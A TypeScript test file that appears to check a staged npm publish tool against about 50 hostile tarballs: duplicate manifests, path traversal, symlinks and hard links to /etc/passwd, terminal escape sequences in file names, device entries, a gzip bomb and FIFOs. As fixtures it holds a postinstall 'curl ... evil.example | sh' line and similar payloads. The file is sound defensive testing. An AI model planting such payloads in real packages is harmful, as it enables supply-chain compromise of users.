/**
 * The hostile tarball corpus: an attacker with create rights writes a tarball (and a record whose
 * integrity, shasum and size match it exactly, so the shape itself is what is tested) straight into the
 * backend, then a maintainer runs the real CLI: `list --json`, `view <id> --json`, and
 * `approve <id> --yes --otp <code>` as a real Verdaccio user with TOTP 2FA. Every case must be refused
 * with the agreed code (BRIEF.md), publish nothing, change nothing in the backend, and print no raw
 * control character. Blocking attacks (a FIFO, /dev/zero) must be answered within 5 s.
 * Positive controls prove the harness can see a publish: a release staged with the CLI, and a
 * package.json with a UTF-8 BOM, are approved and published through the very same path.
 */
import { execFileSync } from 'node:child_process'
import { promises as fs } from 'node:fs'
import path from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Pax } from 'tar'
import type { StagedRecord } from '../../src/core/record.js'
import { sharedRegistry, type TestRegistry } from '../support/verdaccio.js'
import { parseJson, publishedIntegrity, sandbox, type Sandbox } from '../support/cli.js'
import { gzipBomb, manifestEntry, sha512Of, tarOf, tgzOf, type TarEntry } from '../support/tarball-builder.js'
import { paxPathEntry, recordFor, runInProcess, snapshotDir, tarWith, unsafeCharIn, writeLocal } from '../support/hostile.js'
import { attack, expectListSurvives, expectRefused, type AttackResult, type HostileCase } from '../support/hostile-attack.js'
import { s3Battlefield, s3Enabled } from '../support/hostile-s3.js'

const UNSAFE = 'EUNSAFETARBALL'
/** A backend file that is not a regular file: the agreed reading is a refused tarball; EBACKEND/ETOOLARGE are the other honest answers. */
const NOT_A_FILE = ['EUNSAFETARBALL', 'ETOOLARGE', 'ECORRUPT', 'EBACKEND']

interface Built {
  bytes: Buffer
  /** Adjusts the matching record (a case about a record/bytes disagreement). */
  record?: (r: StagedRecord) => StagedRecord
  /** Other package names the bytes carry: none may be published either. */
  names?: string[]
}

interface TarballCase {
  name: string
  expect: string | string[]
  build(pkg: string): Built | Promise<Built>
  /** What sits at <store>/tarballs/<id>.tgz instead of a file with the bytes. */
  place?: 'fifo' | 'dev-zero' | 'outside'
  /** Limits set through the environment, to keep the case fast (the real binary runs it). */
  env?: NodeJS.ProcessEnv
  /** Also run against S3. */
  s3?: boolean
}

const manifest = (name: string, extra: Record<string, unknown> = {}) => ({ name, version: '1.0.0', ...extra })
const indexJs: TarEntry = { path: 'package/index.js', data: 'module.exports = 1\n' }
const withEntries = (pkg: string, ...more: Array<TarEntry | Buffer>): Built => ({ bytes: gzipSync(tarWith([manifestEntry(manifest(pkg)), indexJs, ...more])) })
const evil = { scripts: { postinstall: 'curl -s https://evil.example/x | sh' } }

const CASES: TarballCase[] = [
  // Two manifests: which one is shown, which one is published?
  { name: 'two package/package.json, the second another name with a postinstall', expect: UNSAFE, s3: true, build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(p)), manifestEntry(manifest(`${p}-evil`, evil)), indexJs]), names: [`${p}-evil`] }) },
  { name: 'two package/package.json, the one with a postinstall first', expect: UNSAFE, build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(`${p}-evil`, evil)), manifestEntry(manifest(p)), indexJs]), names: [`${p}-evil`] }) },
  { name: 'package/./package.json next to package/package.json', expect: UNSAFE, build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(p)), manifestEntry(manifest(`${p}-evil`, evil), 'package/./package.json'), indexJs]), names: [`${p}-evil`] }) },
  { name: 'package//package.json next to package/package.json', expect: UNSAFE, build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(p)), manifestEntry(manifest(`${p}-evil`, evil), 'package//package.json'), indexJs]), names: [`${p}-evil`] }) },
  { name: 'other/package.json before package/package.json', expect: UNSAFE, build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(p), 'other/package.json'), manifestEntry(manifest(`${p}-evil`, evil)), indexJs]), names: [`${p}-evil`] }) },
  { name: 'package/package.json is a symlink to /etc/passwd', expect: UNSAFE, build: () => ({ bytes: tgzOf([{ path: 'package/package.json', type: 'SymbolicLink', linkpath: '/etc/passwd' }, indexJs]) }) },

  // package.json that is not a manifest.
  { name: 'package.json missing', expect: 'ECORRUPT', build: () => ({ bytes: tgzOf([indexJs]) }) },
  { name: 'package.json not JSON', expect: 'ECORRUPT', build: () => ({ bytes: tgzOf([{ path: 'package/package.json', data: '{"name": "x", version: 1' }, indexJs]) }) },
  { name: 'package.json a JSON array', expect: 'ECORRUPT', build: () => ({ bytes: tgzOf([{ path: 'package/package.json', data: '["name", "version"]' }, indexJs]) }) },
  { name: 'package.json the JSON string "null"', expect: 'ECORRUPT', build: () => ({ bytes: tgzOf([{ path: 'package/package.json', data: 'null' }, indexJs]) }) },

  // Paths out of package/.
  { name: 'entry ../x', expect: UNSAFE, s3: true, build: (p) => withEntries(p, { path: '../x', data: 'x' }) },
  { name: 'entry /etc/x', expect: UNSAFE, build: (p) => withEntries(p, { path: '/etc/x', data: 'x' }) },
  { name: 'entry package/../../x', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/../../x', data: 'x' }) },
  { name: 'entry package\\..\\x', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package\\..\\x', data: 'x' }) },
  { name: 'entry other/x', expect: UNSAFE, build: (p) => withEntries(p, { path: 'other/x', data: 'x' }) },
  { name: 'entry package/a/../../x', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/a/../../x', data: 'x' }) },
  { name: 'pax path package/../../x behind a harmless ustar name', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/../../x')) },
  // node-tar ignores a global header's path; GNU tar applies it to every later entry.
  { name: 'global pax header renaming every later entry to ../evil', expect: UNSAFE, build: (p) => withEntries(p, new Pax({ path: '../evil' }, true).encode(), { path: 'package/b.js', data: 'x' }) },

  // Names a terminal would act on. They travel in pax headers so they arrive byte for byte. Note: node-tar
  // itself drops a pax path containing LF (the entry keeps its ustar name) and cuts one at NUL, while GNU tar
  // and libarchive honour them: the same bytes show one name here and unpack as another elsewhere, so a
  // reader must look at the pax records, not only at what node-tar reports.
  { name: 'name with ESC[2J', expect: UNSAFE, s3: true, build: (p) => withEntries(p, paxPathEntry('package/a\u001b[2J\u001b[Hb.js')) },
  { name: 'name with CR', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/evil.js\rindex.js')) },
  { name: 'name with LF', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/a\nb.js')) },
  { name: 'name with NUL', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/a.js\u0000.png')) },
  { name: 'name with U+202E', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/\u202esj.exe')) },
  { name: 'name with U+200B', expect: UNSAFE, build: (p) => withEntries(p, paxPathEntry('package/in\u200bdex.js')) },
  { name: 'name with OSC 8 link in a ustar name', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/\u001b]8;;http://e.x/\u001b\\a\u001b]8;;\u001b\\', data: 'x' }) },

  // Not regular files.
  { name: 'symlink to /etc/passwd', expect: UNSAFE, s3: true, build: (p) => withEntries(p, { path: 'package/passwd', type: 'SymbolicLink', linkpath: '/etc/passwd' }) },
  { name: 'symlink to ..', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/up', type: 'SymbolicLink', linkpath: '..' }) },
  { name: 'hard link to another entry', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/link.js', type: 'Link', linkpath: 'package/index.js' }) },
  { name: 'hard link to /etc/passwd', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/passwd', type: 'Link', linkpath: '/etc/passwd' }) },
  { name: 'character device', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/tty', type: 'CharacterDevice' }) },
  { name: 'block device', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/sda', type: 'BlockDevice' }) },
  { name: 'FIFO entry', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/pipe', type: 'FIFO' }) },
  { name: 'ContiguousFile entry (a type npm pack never writes)', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/c.js', type: 'ContiguousFile', data: 'x' }) },
  { name: 'GNUDumpDir entry', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/dump/', type: 'GNUDumpDir' }) },

  // Duplicates that only look different.
  { name: 'package/./a next to package/a', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/a.js', data: 'good' }, { path: 'package/./a.js', data: 'evil' }) },
  { name: 'package/a twice with different bytes', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/a.js', data: 'good' }, { path: 'package/a.js', data: 'evil' }) },
  { name: 'package/README.md next to package/readme.md', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/README.md', data: 'good' }, { path: 'package/readme.md', data: 'evil' }) },
  { name: 'NFC and NFD spellings of one name', expect: UNSAFE, build: (p) => withEntries(p, { path: 'package/caf\u00e9.js', data: 'good' }, { path: 'package/cafe\u0301.js', data: 'evil' }) },

  // Over the limits (set low through the environment so the corpus stays fast).
  { name: 'too many entries (STAGE_PUBLISH_MAX_FILES=50, 200 entries)', expect: 'ETOOLARGE', env: { STAGE_PUBLISH_MAX_FILES: '50' }, build: (p) => withEntries(p, ...Array.from({ length: 200 }, (_, i) => ({ path: `package/f${i}.js`, data: 'x' }))) },
  { name: 'gzip bomb (STAGE_PUBLISH_MAX_UNPACKED_SIZE=1 MB, 16 MB of zeros)', expect: 'ETOOLARGE', env: { STAGE_PUBLISH_MAX_UNPACKED_SIZE: String(1 << 20) }, build: async (p) => ({ bytes: await gzipBomb(manifest(p), 16 << 20) }) },

  // Not a (whole) tarball.
  { name: 'truncated gzip', expect: 'ECORRUPT', s3: true, build: (p) => { const b = withEntries(p).bytes; return { bytes: b.subarray(0, Math.floor(b.length / 2)) } } },
  { name: 'not gzip (random bytes)', expect: 'ECORRUPT', build: () => ({ bytes: Buffer.from('PK\u0003\u0004 this is a zip file, not a tarball '.repeat(20)) }) },
  { name: 'an uncompressed tar (npm tarballs are gzipped)', expect: 'ECORRUPT', build: (p) => ({ bytes: tarOf([manifestEntry(manifest(p)), indexJs]) }) },
  { name: 'empty file', expect: 'ECORRUPT', build: () => ({ bytes: Buffer.alloc(0) }) },
  { name: 'declared size larger than the data', expect: 'ECORRUPT', build: (p) => ({ bytes: gzipSync(tarOf([manifestEntry(manifest(p)), { path: 'package/index.js', data: 'abc', size: 4096 }]).subarray(0, -1024)) }) },
  { name: 'trailing garbage after the gzip stream', expect: 'ECORRUPT', build: (p) => ({ bytes: Buffer.concat([withEntries(p).bytes, Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')]) }) },
  { name: 'a second gzip member appended (another package.json)', expect: ['EUNSAFETARBALL', 'ECORRUPT'], build: (p) => ({ bytes: Buffer.concat([withEntries(p).bytes, tgzOf([manifestEntry(manifest(`${p}-evil`, evil))])]), names: [`${p}-evil`] }) },

  // Bytes and record disagree.
  { name: 'record integrity does not match the bytes', expect: 'EINTEGRITY', s3: true, build: (p) => ({ ...withEntries(p), record: (r) => ({ ...r, integrity: sha512Of(Buffer.from('other bytes')) }) }) },
  { name: 'tarball names another package than the record', expect: 'EINTEGRITY', build: (p) => ({ bytes: tgzOf([manifestEntry(manifest(`${p}-other`)), indexJs]), names: [`${p}-other`] }) },
  { name: 'tarball has another version than the record', expect: 'EINTEGRITY', build: (p) => ({ bytes: tgzOf([manifestEntry({ name: p, version: '6.6.6' }), indexJs]) }) },

  // Not a file where the tarball should be: answered within 5 s.
  { name: 'a FIFO in place of the tarball file', expect: NOT_A_FILE, place: 'fifo', build: (p) => withEntries(p) },
  { name: 'a symlink to /dev/zero in place of the tarball file', expect: NOT_A_FILE, place: 'dev-zero', build: (p) => withEntries(p) },
  { name: 'a symlink to a matching tarball outside the store', expect: NOT_A_FILE, place: 'outside', build: (p) => withEntries(p) },
]

let registry: TestRegistry
let sb: Sandbox
const RUN = `${process.pid.toString(36)}${Date.now().toString(36)}`
const pkgOf = (i: number) => `hostile-t${i}-${RUN}`

interface Placed {
  c: TarballCase
  hostile: HostileCase
  record: StagedRecord
  bytes: Buffer
}

async function materialise(c: TarballCase, i: number): Promise<Placed> {
  const pkg = pkgOf(i)
  const built = await c.build(pkg)
  const base = recordFor(built.bytes, { name: pkg, version: '1.0.0' }, registry.url)
  const record = built.record ? built.record(base) : base
  const placed = !!c.place || !!c.env
  const hostile: HostileCase = {
    name: c.name,
    expect: c.expect,
    id: record.id,
    names: [pkg, ...(built.names ?? [])],
    ...(placed && { spawned: { env: c.env ?? {}, ...(c.place && { answerWithinMs: 5000 }) } }),
  }
  return { c, hostile, record, bytes: built.bytes }
}

async function placeLocal(store: string, p: Placed): Promise<void> {
  const { tarballFile } = await writeLocal(store, p.record.id, { record: `${JSON.stringify(p.record, null, 2)}\n`, ...(p.c.place ? {} : { tarball: p.bytes }) })
  if (p.c.place === 'fifo') execFileSync('mkfifo', ['-m', '600', tarballFile])
  if (p.c.place === 'dev-zero') await fs.symlink('/dev/zero', tarballFile)
  if (p.c.place === 'outside') {
    const outside = path.join(sb.dir, `outside-${p.record.id}.tgz`)
    await fs.writeFile(outside, p.bytes)
    await fs.symlink(outside, tarballFile)
  }
}

beforeAll(async () => {
  registry = await sharedRegistry()
  sb = await sandbox()
})

afterAll(async () => {
  await fs.rm(sb.dir, { recursive: true, force: true })
})

describe('hostile tarballs in a local backend', () => {
  let placed: Placed[]
  let result: AttackResult
  const started = Date.now()

  beforeAll(async () => {
    placed = await Promise.all(CASES.map(materialise))
    for (const p of placed) await placeLocal(sb.store, p)
    result = await attack(
      placed.map((p) => p.hostile),
      { registry, backend: sb.backend, snapshot: () => snapshotDir(sb.store), cwd: sb.dir, env: sb.env, dir: sb.dir },
    )
    console.log(`hostile tarballs (local): ${CASES.length} cases in ${Date.now() - started} ms`)
  }, 240_000)

  it('has a case for every attack in the table, each with its own release id', () => {
    expect(new Set(placed.map((p) => p.record.id)).size).toBe(CASES.length)
    expect(CASES.length).toBeGreaterThanOrEqual(50)
  })

  it('list --json answers over the whole hostile backend, with clean output, listing every (valid) record', () => {
    const ids = expectListSurvives(result).map((r) => r.id)
    for (const p of placed) expect(ids, p.c.name).toContain(p.record.id)
  })

  it.each(CASES.map((c) => [c.name, c] as const))('refuses: %s', (_name, c) => {
    expectRefused(placed.find((p) => p.c === c)?.hostile as HostileCase, result)
  })
})

describe.skipIf(!s3Enabled)('hostile tarballs in S3 (radosgw), a representative subset', () => {
  const subset = CASES.filter((c) => c.s3)
  let placed: Placed[]
  let result: AttackResult

  beforeAll(async () => {
    const field = await s3Battlefield(sb, registry)
    placed = await Promise.all(subset.map((c) => materialise(c, CASES.indexOf(c) + 1000)))
    for (const p of placed) await field.put(p.record.id, { record: `${JSON.stringify(p.record, null, 2)}\n`, tarball: p.bytes })
    result = await attack(placed.map((p) => p.hostile), field)
  }, 120_000)

  it('list --json answers, with clean output', () => {
    const ids = expectListSurvives(result).map((r) => r.id)
    for (const p of placed) expect(ids, p.c.name).toContain(p.record.id)
  })

  it.each(subset.map((c) => [c.name, c] as const))('refuses: %s', (_name, c) => {
    expectRefused(placed.find((p) => p.c === c)?.hostile as HostileCase, result)
  })
})

describe('positive controls: the same harness sees a publish', () => {
  it('a release staged with the CLI is approved and published with its integrity', async () => {
    const name = `hostile-control-${RUN}`
    const pkg = await sb.makePackage(name, { version: '1.0.0' })
    const staged = await sb.run(['--json', '--backend', sb.backend, '--registry', registry.url], { cwd: pkg })
    expect(staged.code, staged.all).toBe(0)
    const { id, integrity } = parseJson<{ id: string; integrity: string }>(staged.stdout)
    const approver = await registry.createUser()
    const npmrc = await approver.writeNpmrc(path.join(sb.dir, 'control-approver'), registry.url)
    const view = await runInProcess(['view', id, '--json', '--backend', sb.backend], { cwd: sb.dir, env: sb.env })
    expect(view.code, view.all).toBe(0)
    expect(parseJson<{ reviewError?: unknown }>(view.stdout).reviewError).toBeUndefined()
    const approve = await runInProcess(['approve', id, '--yes', '--otp', await approver.otp(), '--wait', '1s', '--backend', sb.backend], { cwd: sb.dir, env: { ...sb.env, NPM_CONFIG_USERCONFIG: npmrc } })
    expect(approve.code, approve.all).toBe(0)
    expect(approve.stdout).toContain(`+ ${name}@1.0.0`)
    expect(unsafeCharIn(view.all + approve.all)).toBeNull()
    expect(await publishedIntegrity(sb, registry.url, `${name}@1.0.0`)).toBe(integrity)
  })

  it('a package.json with a UTF-8 BOM is accepted, shown and published', async () => {
    const name = `hostile-bom-${RUN}`
    const bytes = tgzOf([{ path: 'package/package.json', data: `\ufeff${JSON.stringify(manifest(name, { description: 'bom' }), null, 2)}\n` }, indexJs])
    const record = recordFor(bytes, { name, version: '1.0.0' }, registry.url)
    await writeLocal(sb.store, record.id, { record: `${JSON.stringify(record, null, 2)}\n`, tarball: bytes })
    const approver = await registry.createUser()
    const npmrc = await approver.writeNpmrc(path.join(sb.dir, 'bom-approver'), registry.url)
    const view = await runInProcess(['view', record.id, '--json', '--backend', sb.backend], { cwd: sb.dir, env: sb.env })
    expect(view.code, view.all).toBe(0)
    expect(parseJson<{ reviewError?: unknown }>(view.stdout).reviewError, view.stdout).toBeUndefined()
    const approve = await runInProcess(['approve', record.id, '--yes', '--otp', await approver.otp(), '--wait', '1s', '--backend', sb.backend], { cwd: sb.dir, env: { ...sb.env, NPM_CONFIG_USERCONFIG: npmrc } })
    expect(approve.code, approve.all).toBe(0)
    expect(unsafeCharIn(view.all + approve.all)).toBeNull()
    expect(await publishedIntegrity(sb, registry.url, `${name}@1.0.0`)).toBe(record.integrity)
  })
})
